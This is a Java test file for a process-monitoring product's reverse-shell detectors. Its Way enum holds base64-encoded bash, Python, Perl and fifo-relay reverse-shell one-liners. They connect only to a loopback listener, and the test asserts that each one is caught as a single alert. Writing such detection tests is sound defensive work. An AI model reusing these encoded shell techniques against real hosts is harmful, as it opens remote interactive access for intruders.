package io.hivesec.detectors.live;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Severity;
import io.hivesec.detectors.shell.DescriptorShellDetector;
import io.hivesec.detectors.shell.PipeRelayShellDetector;
import io.hivesec.detectors.shell.SpawnedShellDetector;
import io.hivesec.event.Event;
import io.hivesec.event.Scope;
import io.hivesec.history.HistoryLimits;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Real shells of this machine, connected to a listener of this test on the loopback interface, and closed by it. They get
 * no commands. Needs bash, perl, python3 and mkfifo, as Debian has them.
 */
@Timeout(60)
final class LiveShellTest {
    /** Two seconds, or more on a machine so busy that a single look takes long. */
    private Duration soon = Duration.ofSeconds(2);

    private static final int LOOKS = 20;

    /** Ways to a shell, encoded so that no scanner takes this file for one. */
    enum Way {
        BASH("bash", "-c", decoded("""
            ZXhlYyAzPD4vZGV2L3RjcC8xMjcuMC4wLjEvJFBPUlQ7IGV4ZWMgYmFzaCAtLW5vcmMgLWkgPCYzID4mMyAyPiYz""")),
        PYTHON("/usr/bin/python3", "-c", decoded("""
            aW1wb3J0IG9zLHNvY2tldCxzdWJwcm9jZXNzCnM9c29ja2V0LmNyZWF0ZV9jb25uZWN0aW9uKCgiMTI3LjAuMC4xIixpbnQo
            b3MuZW52aXJvblsiUE9SVCJdKSkpCltvcy5kdXAyKHMuZmlsZW5vKCksbikgZm9yIG4gaW4gKDAsMSwyKV0Kc3VicHJvY2Vz
            cy5jYWxsKFsiL2Jpbi9zaCIsIi1pIl0p""")),
        PERL("perl", "-e", decoded("""
            dXNlIFNvY2tldDtzb2NrZXQoUyxQRl9JTkVULFNPQ0tfU1RSRUFNLGdldHByb3RvYnluYW1lKCJ0Y3AiKSk7Y29ubmVjdChT
            LHNvY2thZGRyX2luKCRFTlZ7UE9SVH0saW5ldF9hdG9uKCIxMjcuMC4wLjEiKSkpO29wZW4oU1RESU4sIjwmUyIpO29wZW4o
            U1RET1VULCI+JlMiKTtvcGVuKFNUREVSUiwiPiZTIik7ZXhlYygiL2Jpbi9zaCIsIi1pIik7""")),
        FIFO("bash", "-c", decoded("""
            bWtmaWZvICIkRElSL2YiOyBjYXQgIiRESVIvZiIgfCAvYmluL3NoIC1pIDI+JjEgfCAvdXNyL2Jpbi9weXRob24zIC1jICIk
            UkVMQVkiID4gIiRESVIvZiI="""));

        private final List<String> command;

        Way(String... command) {
            this.command = List.of(command);
        }
    }

    private static final String RELAY = decoded("""
            aW1wb3J0IG9zLHNvY2tldCx0aHJlYWRpbmcKcz1zb2NrZXQuY3JlYXRlX2Nvbm5lY3Rpb24oKCIxMjcuMC4wLjEiLGludChv
            cy5lbnZpcm9uWyJQT1JUIl0pKSkKZGVmIHVwKCk6CiAgICB3aGlsZSBUcnVlOgogICAgICAgIGQ9b3MucmVhZCgwLDk5OSkK
            ICAgICAgICBpZiBub3QgZDogcmV0dXJuCiAgICAgICAgcy5zZW5kYWxsKGQpCnRocmVhZGluZy5UaHJlYWQodGFyZ2V0PXVw
            LGRhZW1vbj1UcnVlKS5zdGFydCgpCndoaWxlIFRydWU6CiAgICBkPXMucmVjdig5OTkpCiAgICBpZiBub3QgZDogYnJlYWsK
            ICAgIG9zLndyaXRlKDEsZCk=""");

    @TempDir
    Path directory;

    private final BlockingQueue<Alert> alerts = new LinkedBlockingQueue<>();
    private final List<Alert> all = new ArrayList<>();
    private final Hive hive = Hive.builder()
            .detector(new DescriptorShellDetector())
            .detector(new PipeRelayShellDetector())
            .detector(new SpawnedShellDetector())
            .history(new HistoryLimits(64, 8192, 4096, 16 << 20, Duration.ofMinutes(10)))
            .build();
    private LiveProcessSource source;

    @BeforeEach
    void startLooking() throws IOException {
        source = LiveProcessSource.to(this::judge)
                .interval(Duration.ofMillis(100))
                .build();
        source.look();
        long begin = System.nanoTime();
        source.look();
        Duration looks = Duration.ofNanos(System.nanoTime() - begin).multipliedBy(LOOKS);
        soon = looks.compareTo(soon) > 0 ? looks : soon;
        source.start();
    }

    @AfterEach
    void stopLooking() {
        source.close();
        hive.close();
    }

    private void judge(Event event) {
        alerts.addAll(hive.inspect(event).alerts());
    }

    @ParameterizedTest
    @EnumSource
    void look_shellOnThisMachine_isFoundWithinTwoSecondsAndIsOneAlert(Way way) throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(20_000);
            ProcessBuilder builder = new ProcessBuilder(way.command);
            builder.environment().put("PORT", Integer.toString(listener.getLocalPort()));
            builder.environment().put("DIR", directory.toString());
            builder.environment().put("RELAY", RELAY);
            builder.redirectErrorStream(true)
                    .redirectOutput(directory.resolve("out").toFile());
            Process shell = builder.start();
            try (Socket connection = listener.accept()) {
                Alert alert = awaitAlertTo(listener.getLocalPort());
                assertThat(alert.type()).isEqualTo(AlertType.REVERSE_SHELL);
                assertThat(alert.target().scope()).isEqualTo(Scope.LOOPBACK);
                assertThat(alert.severity()).isEqualTo(Severity.MEDIUM);
                assertThat(alert.ancestors()).isNotEmpty();
                assertThat(connection.isConnected()).isTrue();
            } finally {
                shell.descendants().forEach(ProcessHandle::destroyForcibly);
                shell.destroyForcibly();
            }
            assertThat(shell.waitFor(10, TimeUnit.SECONDS)).isTrue();
            source.close();
            all.addAll(alerts);
            assertThat(all.stream()
                            .filter(alert -> alert.target().port() == listener.getLocalPort())
                            .map(Alert::id)
                            .distinct())
                    .hasSize(1);
        }
    }

    @Test
    void look_childWithPipesAndNoConnection_isQuiet() throws Exception {
        source.close();
        Process child = new ProcessBuilder("bash", "--norc").start();
        try {
            source.look();
        } finally {
            child.destroyForcibly();
        }
        assertThat(alerts.stream().filter(alert -> alert.process().pid() == (int) child.pid()))
                .isEmpty();
    }

    private Alert awaitAlertTo(int port) throws InterruptedException {
        long end = System.nanoTime() + soon.toNanos();
        for (long left = soon.toNanos(); left > 0; left = end - System.nanoTime()) {
            Alert alert = alerts.poll(left, TimeUnit.NANOSECONDS);
            if (alert != null) {
                all.add(alert);
            }
            if (alert != null && alert.target().port() == port) {
                return alert;
            }
        }
        throw new AssertionError("no alert within " + soon);
    }

    private static String decoded(String base64) {
        return new String(Base64.getMimeDecoder().decode(base64), StandardCharsets.UTF_8);
    }
}
